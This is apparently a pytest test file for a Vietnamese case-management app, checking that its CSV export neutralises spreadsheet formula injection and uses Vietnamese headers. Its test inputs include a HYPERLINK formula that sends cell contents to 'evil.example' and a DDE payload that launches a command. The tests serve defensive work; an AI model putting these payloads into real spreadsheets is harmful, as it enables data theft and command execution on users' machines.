"""The case export is a spreadsheet managers open in Excel: no cell a citizen typed runs as a
formula, and it reads in Vietnamese (headers, kinds, states, yes/no) with ISO dates."""

from __future__ import annotations

import csv
import io

import pytest
from quart import Quart

from reception.domain.organisation import StaffRole
from reception.services.spreadsheets import BOM, cell
from tests.integration.cases.helpers import ALL_CASE_ROLES, client_for, post, staff

FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+84 912 345 678", "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0")


async def test_the_export_neutralises_formulas_and_reads_in_vietnamese(app: Quart) -> None:
    await staff(app, "head", *ALL_CASE_ROLES, StaffRole.INSPECTOR, code="SO")
    client = await client_for(app, "head")
    for name in (*FORMULAS, "Trần Thị Bình"):
        await post(client, "/api/v1/cases", {
            "kind": "complaint", "channel": "post", "summary": "=1+1 khiếu nại",
            "received_on": "2026-09-01",
            "parties": [{"role": "complainant", "full_name": name}]}, 201)

    response = await client.get("/api/v1/cases/export.csv")
    assert response.status_code == 200
    text = (await response.get_data()).decode("utf-8")
    assert text.startswith(BOM)  # Excel reads the file as UTF-8
    header, *rows = list(csv.reader(io.StringIO(text[1:])))
    assert header == ["Mã hồ sơ", "Loại", "Trạng thái", "Ngày nhận đơn", "Người", "Hạn tiếp theo",
                      "Số ngày quá hạn", "Đã kết thúc", "Ngày giải quyết", "Giải quyết đúng hạn"]
    assert len(rows) == len(FORMULAS) + 1
    for row in rows:
        assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row), row
        assert row[1] == "Khiếu nại" and row[2] and not row[2].startswith("C_")
        assert row[3] == "2026-09-01" and row[7] == "Không"
    names = sorted(row[4] for row in rows)
    assert names == sorted(["'" + f for f in FORMULAS] + ["Trần Thị Bình"])


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@A1", "\tx", "\r=1", "\n=1", "＝1"])
def test_a_cell_that_would_be_a_formula_is_shown_as_text(value: str) -> None:
    assert cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Nguyễn Văn A", "2026-09-01", "", 3, -1, "a=b"])
def test_other_cells_are_written_as_they_are(value: object) -> None:
    assert cell(value) == value
